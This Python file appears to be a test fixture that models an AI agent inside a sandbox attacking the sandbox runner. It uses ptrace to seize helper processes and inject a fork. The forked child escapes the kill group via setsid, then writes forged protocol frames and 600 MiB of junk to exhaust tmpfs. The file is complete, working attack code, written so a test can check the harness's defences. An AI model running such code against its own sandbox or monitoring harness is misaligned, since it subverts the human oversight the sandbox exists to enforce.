"""The agent's ptrace attack on the shell helper's file requests (x86_64).

Runs inside the sandbox as the sandbox user (uid 1000), the uid of the
helper's user-side read and write processes:
``python3 ptrace_attacker.py LOG SECONDS PAUSE``.  For SECONDS it watches /proc
for a process whose fd 1 (else 2) leads under /run/sandbox-runner/ (only
our own uid's links can be read), attaches to it, injects a fork so that a
stopped child keeps that descriptor, lets the process go, and once it has
ended writes through the child's descriptor: a forged frame header, then
junk, up to more than the 512 MiB root tmpfs holds.  Every step goes to
LOG, which the test reads to know the attack really happened.  After each
catch it rests PAUSE seconds (so that a read it stretched ends).
"""

import contextlib
import ctypes
import os
import re
import signal
import struct
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
NAMES = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss"


class Regs(ctypes.Structure):  # struct user_regs_struct
    _fields_ = [(n, ctypes.c_ulong) for n in (NAMES + " fs_base gs_base ds es fs gs").split()]


DETACH, GETREGS, SETREGS, SINGLESTEP = 17, 12, 13, 9
SEIZE, INTERRUPT, GETEVENTMSG, O_TRACEFORK, EVENT_FORK = 0x4206, 0x4207, 0x4201, 2, 1
WALL = 0x40000000
SYS_WRITE, SYS_FORK, SYS_SETSID = 1, 57, 112
TARGET = re.compile(r"^/run/sandbox-runner/")
JUNK_TOTAL = 600 << 20  # more than the root tmpfs (512 MiB)
HEADER = b'{"id": 1, "ok": true, "size": 0}'
FORGED = struct.pack(">I", len(HEADER)) + HEADER + struct.pack(">Q", 0)
#: What every write sends (the test knows these bytes for the attacker's).
BLOCK = (FORGED + b"FORGED-BYTES-AFTER-THE-BODY\n" * 2400)[:65536]


def pt(request, pid, addr=None, data=None):
    result = libc.ptrace(request, pid, addr, data)
    if result == -1 and ctypes.get_errno():
        raise OSError(ctypes.get_errno(), f"ptrace {request} of {pid}")
    return result


def getregs(pid):
    regs = Regs()
    pt(GETREGS, pid, None, ctypes.byref(regs))
    return regs


def syscall_gadget(pid):
    """The address of a `syscall` instruction in the process's code."""
    with open(f"/proc/{pid}/maps") as maps:
        spans = [line.split()[:2] for line in maps]
    for span, perms in spans:
        if "x" in perms:
            lo, hi = (int(x, 16) for x in span.split("-"))
            with open(f"/proc/{pid}/mem", "rb") as mem:
                mem.seek(lo)
                at = mem.read(min(hi - lo, 1 << 20)).find(b"\x0f\x05")
            if at >= 0:
                return lo + at
    raise OSError("no syscall instruction")


def inject(pid, gadget, number, *args):
    """Run one system call in the stopped tracee; its result (rax)."""
    regs = getregs(pid)
    regs.rip, regs.rax, regs.orig_rax = gadget, number, 2**64 - 1
    for i, value in enumerate(args):
        setattr(regs, ("rdi", "rsi", "rdx", "r10", "r8", "r9")[i], value)
    pt(SETREGS, pid, None, ctypes.byref(regs))
    pt(SINGLESTEP, pid)
    os.waitpid(pid, WALL)
    return getregs(pid).rax


def buffer_of(pid, size):
    """A writable mapping of the child's at least `size` bytes long (the
    child never runs its own code again: any will do)."""
    with open(f"/proc/{pid}/maps") as maps:
        spans = [line.split()[:2] for line in maps]
    for span, perms in spans:
        lo, hi = (int(x, 16) for x in span.split("-"))
        if perms.startswith("rw") and hi - lo >= size:
            return lo
    raise OSError("no writable mapping")


def fork_of(pid):
    """Stop `pid` (seized: no signal of ours stays pending), make it fork,
    let it go as it was; the child, stopped and traced, or OSError."""
    pt(SEIZE, pid, None, ctypes.c_void_p(O_TRACEFORK))
    saved = None
    try:
        pt(INTERRUPT, pid)
        os.waitpid(pid, WALL)
        saved = getregs(pid)
        gadget = syscall_gadget(pid)
        regs = getregs(pid)
        regs.rip, regs.rax, regs.orig_rax = gadget, SYS_FORK, 2**64 - 1
        pt(SETREGS, pid, None, ctypes.byref(regs))
        for _ in range(5):  # a signal stop first (a SIGCHLD of its): dropped
            pt(SINGLESTEP, pid)
            _, status = os.waitpid(pid, WALL)
            if status >> 16 or (status >> 8) & 0x7F == signal.SIGTRAP:
                break
        if status >> 16 != EVENT_FORK:
            raise OSError(f"no fork (wait status {status:#x})")
        message = ctypes.c_ulong()
        pt(GETEVENTMSG, pid, None, ctypes.byref(message))
        child = message.value
        pt(SINGLESTEP, pid)  # to the fork's end
        os.waitpid(pid, WALL)
        os.waitpid(child, WALL)  # its first stop
        return child, gadget
    finally:
        with contextlib.suppress(OSError):
            if saved is not None:  # a system call it was in is restarted
                if 2**64 - 516 <= saved.rax <= 2**64 - 512:
                    saved.rip -= 2
                    restart = 219 if saved.rax == 2**64 - 516 else saved.orig_rax
                    saved.rax = restart  # 219: restart_syscall
                pt(SETREGS, pid, None, ctypes.byref(saved))
            pt(DETACH, pid)


def comm(pid):
    try:
        return open(f"/proc/{pid}/comm").read().strip()
    except OSError:
        return "gone"


def ended(pid):
    try:
        with open(f"/proc/{pid}/stat") as stat:
            return stat.read().rsplit(")", 1)[1].split()[0] in "ZX"
    except OSError:
        return True


def write_through(child, gadget, fd):
    """Junk through the child's `fd` until JUNK_TOTAL or a write fails."""
    inject(child, gadget, SYS_SETSID)  # out of the group the runner kills
    address = buffer_of(child, len(BLOCK))
    with open(f"/proc/{child}/mem", "r+b") as mem:
        mem.seek(address)
        mem.write(BLOCK)
    total, error = 0, None
    while total < JUNK_TOTAL:
        written = inject(child, gadget, SYS_WRITE, fd, address, len(BLOCK))
        if written >= 2**63:
            error = os.strerror(2**64 - written)
            break
        total += written
    return total, error


def main(log):
    stop_at = time.monotonic() + float(sys.argv[2])
    pause = float(sys.argv[3]) if len(sys.argv) > 3 else 0.0  # after each catch
    log.write(f"ready {os.getpid()}\n")
    seen = {os.getpid()}
    while time.monotonic() < stop_at:
        for name in os.listdir("/proc"):
            if not name.isdigit() or int(name) in seen:
                continue
            for fd in (1, 2):
                try:
                    path = os.readlink(f"/proc/{name}/fd/{fd}")
                except OSError:  # gone, or not ours
                    continue
                if TARGET.match(path):
                    break
            else:
                continue
            pid = int(name)
            seen.add(pid)
            try:
                child, gadget = fork_of(pid)
            except (OSError, ChildProcessError) as exc:
                log.write(f"attach {pid} ({comm(pid)}) failed: {exc}\n")
                continue
            seen.add(child)
            log.write(f"caught {pid} ({comm(pid)}) fd{fd} -> {path}; child {child}\n")
            waited = time.monotonic() + 10
            while not ended(pid) and time.monotonic() < waited:
                time.sleep(0.001)  # write only once the real process is done
            try:
                total, error = write_through(child, gadget, fd)
            except (OSError, ChildProcessError) as exc:
                total, error = 0, str(exc)
            then = f"; then {error}" if error else ""
            log.write(f"wrote {total} bytes through fd{fd} of {pid} ({path}){then}\n")
            os.kill(child, signal.SIGKILL)
            with contextlib.suppress(ChildProcessError):
                os.waitpid(child, WALL | os.WNOHANG)
            time.sleep(pause)
    log.write("done\n")


if __name__ == "__main__":
    with open(sys.argv[1], "a", buffering=1) as log:
        main(log)
